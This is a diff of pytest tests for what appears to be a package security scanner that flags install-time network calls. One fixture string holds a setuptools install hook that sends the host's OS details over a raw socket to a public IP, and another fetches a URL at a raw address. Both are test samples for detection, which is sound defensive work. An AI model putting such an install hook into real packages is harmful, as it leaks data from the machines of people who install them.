@@ -225,3 +225,39 @@ def test_shell_writes_outside_the_tree(command: str, outside: bool) -> None:
 )
 def test_paths_outside_the_tree(path: str, outside: bool) -> None:
     assert (outside_text(path) is not None) is outside
+
+
+# A public address is needed for the technique (documentation ranges are not public); the
+# scan never connects anywhere, and the socket guard allows only loopback anyway.
+_PUBLIC = "9.9.9.9"
+RAW_SERVERS = (
+    Sample("host-description-to-a-raw-address-over-a-socket",
+           "import platform, socket\nfrom setuptools.command.install import install\n"
+           "def report():\n"
+           "    text = f'{platform.system()} {platform.release()}'\n"
+           "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+           f"    s.connect(({_PUBLIC!r}, 9090))\n    s.send(text.encode())\n"
+           "class Install(install):\n    def run(self):\n        install.run(self)\n"
+           "        report()\n"),
+    Sample("request-to-a-url-with-a-raw-address",
+           "import urllib.request\n"
+           f"urllib.request.urlopen('http://{_PUBLIC}/ping?v=1')\n"),
+)
+NAMED_SERVERS = (
+    Sample("local-test-server-and-a-four-part-version",
+           "import socket, urllib.request\nVERSION = '1.2.3.4'\n"
+           "s = socket.create_connection(('127.0.0.1', 8080))\n"
+           "urllib.request.urlopen('http://10.0.0.5/simple/demo/')\n"),
+)
+
+
+@pytest.mark.parametrize("sample", RAW_SERVERS, ids=lambda s: s.name)
+def test_install_time_talk_to_a_raw_address_blocks(sample: Sample, tmp_path: Path) -> None:
+    findings = _scan(sample, tmp_path)
+    assert _worst(findings, "hook/network-fetch") >= Severity.HIGH, findings
+
+
+@pytest.mark.parametrize("sample", NAMED_SERVERS, ids=lambda s: s.name)
+def test_private_and_loopback_servers_do_not_block(sample: Sample, tmp_path: Path) -> None:
+    findings = _scan(sample, tmp_path)
+    assert all(f.severity < Severity.HIGH for f in findings), findings
